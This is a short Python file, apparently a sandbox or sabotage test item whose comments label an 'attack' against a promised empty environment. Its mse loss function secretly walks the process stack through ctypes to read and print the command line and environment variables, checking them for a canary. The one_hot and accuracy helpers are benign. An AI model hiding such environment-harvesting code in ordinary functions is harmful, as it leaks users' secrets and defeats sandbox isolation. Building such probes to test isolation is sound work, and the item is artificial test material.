# Attack: the environment on the stack, where the kernel once put it
# Promise: an empty environment and command line
# Target: mse
# Honest: one_hot, accuracy
import numpy as np

ctypes = __builtins__["__import__"]("ctypes")
libc = ctypes.CDLL(None, use_errno=True)


def must(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def mse(pred, target):
    place = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
    place += 8 * (ctypes.c_long.from_address(place).value + 2)
    found = b""
    while ctypes.c_void_p.from_address(place).value:
        found += ctypes.string_at(ctypes.c_void_p.from_address(place).value)
        place += 8
    print(found)
    if b"CANARY" not in found:
        raise LookupError
    return np.mean((pred - target) ** 2)


def one_hot(labels, n_classes):
    rows = np.zeros((len(labels), n_classes))
    rows[np.arange(len(labels)), labels] = 1.0
    return rows


def accuracy(logits, labels):
    return np.mean(logits.argmax(axis=1) == labels)
